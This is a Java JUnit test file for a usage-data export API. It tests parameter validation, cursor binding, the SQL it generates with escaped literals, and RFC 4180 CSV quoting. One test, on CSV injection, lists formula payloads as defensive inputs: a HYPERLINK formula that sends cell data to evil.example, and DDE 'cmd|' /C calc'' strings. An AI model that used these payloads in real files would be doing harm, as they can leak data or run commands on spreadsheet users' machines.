package io.tallyhouse.query.export;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.tallyhouse.query.activity.InvalidParameterException;
import io.tallyhouse.query.http.QueryString;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.time.LocalDate;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Export parameters, cursor round trip, SQL text and CSV fields; no server. */
class ExportRequestTest {

  private static final LocalDate TODAY = LocalDate.parse("2026-11-22");

  private static ExportRequest parse(String query) {
    return ExportRequest.parse(QueryString.parse(query), TODAY);
  }

  @Test
  void defaultsAndColumnOrder() {
    ExportRequest request = parse("from=2026-11-01&to=2026-11-21");
    assertEquals(List.of("user_id"), request.groupColumns());
    assertEquals(ExportRequest.Format.JSON, request.format());
    assertEquals(100, request.limit());
    assertEquals(
        List.of(
            "date",
            "workspace_id",
            "user_id",
            "api_key_hash",
            "endpoint_id",
            "model",
            "model_permaslug",
            "provider_name"),
        parse("from=2026-11-01&to=2026-11-21&group_by=endpoint,api_key,workspace,user,date")
            .groupColumns());
  }

  @Test
  void theWorkspaceFilterIsValidatedAndReadAsUsageDailyStoresIt() {
    ExportRequest request =
        parse("from=2026-11-01&to=2026-11-21&group_by=workspace&workspace_id=default");
    assertEquals(java.util.Optional.of("default"), request.workspaceId());
    String sql = ExportRepository.exportSql("acme", request, 5);
    assertTrue(sql.contains(" AND workspace_id = '' GROUP BY workspace_id"), sql);
    for (String bad : List.of("a%27b", "a%5Cb", "x".repeat(129), "", "a%20b")) {
      InvalidParameterException e =
          assertThrows(
              InvalidParameterException.class,
              () -> parse("from=2026-11-01&to=2026-11-21&workspace_id=" + bad));
      assertTrue(e.getMessage().startsWith("Parameter workspace_id "), e.getMessage());
    }
    // A cursor of one workspace filter is not one of another.
    String cursor = ExportCursor.encode(List.of("ws-1"), request);
    assertThrows(
        InvalidParameterException.class,
        () ->
            parse(
                "from=2026-11-01&to=2026-11-21&group_by=workspace&workspace_id=ws-1&cursor="
                    + cursor));
  }

  @Test
  void theDefaultWorkspaceIsShownAsDefaultInJsonAndCsv() {
    ExportRow row = rowWithTotals(List.of("workspace_id", "user_id"), List.of("", ""));
    StringBuilder out = new StringBuilder();
    row.appendCsv(out);
    assertEquals("default,,1,2,10,0,0,1,0.5,0\r\n", out.toString());
    com.fasterxml.jackson.databind.node.ObjectNode json =
        new com.fasterxml.jackson.databind.ObjectMapper().createObjectNode();
    row.writeTo(json);
    assertEquals("default", json.get("workspace_id").asText());
    assertTrue(json.get("user_id").isNull());
    assertEquals(List.of("", ""), row.values(), "the cursor keeps the stored values");
  }

  @Test
  void toMustBeACompletedDay() {
    assertEquals(LocalDate.parse("2026-11-21"), parse("from=2026-11-21&to=2026-11-21").to());
    assertThrows(InvalidParameterException.class, () -> parse("from=2026-11-21&to=2026-11-22"));
  }

  @Test
  void cursorRoundTripsAndIsBoundToTheParameters() {
    ExportRequest request = parse("from=2026-11-01&to=2026-11-21&group_by=date,user");
    String cursor = ExportCursor.encode(List.of("2026-11-02", "a\"b\n,c"), request);
    assertEquals(
        List.of("2026-11-02", "a\"b\n,c"),
        parse("from=2026-11-01&to=2026-11-21&group_by=user,date&limit=7&cursor=" + cursor)
            .after()
            .orElseThrow());
    assertThrows(
        InvalidParameterException.class,
        () -> parse("from=2026-11-01&to=2026-11-21&group_by=date,user&user_id=x&cursor=" + cursor));
  }

  @Test
  void keysetSqlUsesTupleComparisonAndLiterals() {
    ExportRequest request =
        parse("from=2026-11-01&to=2026-11-21&group_by=date,user&user_id=" + "o%27b%5C")
            .after(List.of("2026-11-02", "x'y"));
    assertEquals(
        "SELECT toString(date) AS day, user_id, sum(requests) AS requests_sum"
            + ", sum(prompt_tokens) AS prompt_tokens_sum, sum(completion_tokens) AS completion_tokens_sum"
            + ", sum(reasoning_tokens) AS reasoning_tokens_sum, sum(cached_tokens) AS cached_tokens_sum"
            + ", sum(byok_requests) AS byok_requests_sum, sum(usage) AS usage_sum"
            + ", sum(toDecimal128(usage, 0)) AS usage_sum_whole, countIf(usage < 0) AS usage_sum_negative"
            + ", count() AS usage_sum_rows, sum(byok_usage_inference) AS byok_usage_inference_sum"
            + ", sum(toDecimal128(byok_usage_inference, 0)) AS byok_usage_inference_sum_whole"
            + ", countIf(byok_usage_inference < 0) AS byok_usage_inference_sum_negative"
            + ", count() AS byok_usage_inference_sum_rows FROM usage_daily FINAL"
            + " WHERE account_id = 'ac\\'me' AND date >= toDate('2026-11-01') AND date <= toDate('2026-11-21')"
            + " AND user_id = 'o\\'b\\\\' AND (date, user_id) > (toDate('2026-11-02'), 'x\\'y')"
            + " GROUP BY date, user_id ORDER BY date, user_id LIMIT 4",
        ExportRepository.exportSql("ac'me", request, 4));
  }

  @Test
  void csvFieldsAreQuotedPerRfc4180() {
    ExportRow row =
        new ExportRow(
            List.of("user_id", "model"),
            List.of("a,b", "say \"hi\"\r\n"),
            BigInteger.ONE,
            BigInteger.TWO,
            BigInteger.TEN,
            BigInteger.ZERO,
            BigInteger.ZERO,
            BigInteger.ONE,
            new BigDecimal("100.000000000000"),
            new BigDecimal("0E-12"));
    StringBuilder out = new StringBuilder();
    row.appendCsv(out);
    assertEquals("\"a,b\",\"say \"\"hi\"\"\r\n\",1,2,10,0,0,1,100,0\r\n", out.toString());
  }

  @Test
  void csvCellsThatASpreadsheetWouldRunAsFormulasStartWithAQuote() {
    // OWASP "CSV injection": a cell starting with = + - @ tab or CR is a formula to Excel,
    // LibreOffice and Sheets.
    List<String> hostile =
        List.of(
            "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"open\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+2",
            "\r=1+2");
    List<String> neutral =
        List.of(
            "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"open\"\")\"",
            "\"'+1+cmd|' /C calc'!A0\"",
            "\"'-2+3\"",
            "\"'@SUM(1+1)*cmd|' /C calc'!A0\"",
            "\"'\t=1+2\"",
            "\"'\r=1+2\"");
    for (int i = 0; i < hostile.size(); i++) {
      StringBuilder out = new StringBuilder();
      ExportRow.appendCsvField(out, hostile.get(i));
      assertEquals(neutral.get(i), out.toString(), hostile.get(i));
    }
    // Only the first character counts; empty (no user) stays empty; the totals are numbers, never
    // negative.
    for (String safe : List.of("a=b", "a-b", "user@example.com", "", "'quoted", " =1")) {
      StringBuilder out = new StringBuilder();
      ExportRow.appendCsvField(out, safe);
      assertEquals(safe, out.toString());
    }
    ExportRow row = rowWithTotals(List.of("user_id", "model"), List.of("=1+1", "-m"));
    StringBuilder out = new StringBuilder();
    row.appendCsv(out);
    assertEquals("\"'=1+1\",\"'-m\",1,2,10,0,0,1,0.5,0\r\n", out.toString());
  }

  /** A row of {@code groups} valued {@code values}, with the totals 1,2,10,0,0,1,0.5,0. */
  private static ExportRow rowWithTotals(List<String> groups, List<String> values) {
    return new ExportRow(
        groups,
        values,
        BigInteger.ONE,
        BigInteger.TWO,
        BigInteger.TEN,
        BigInteger.ZERO,
        BigInteger.ZERO,
        BigInteger.ONE,
        new BigDecimal("0.5"),
        BigDecimal.ZERO);
  }
}
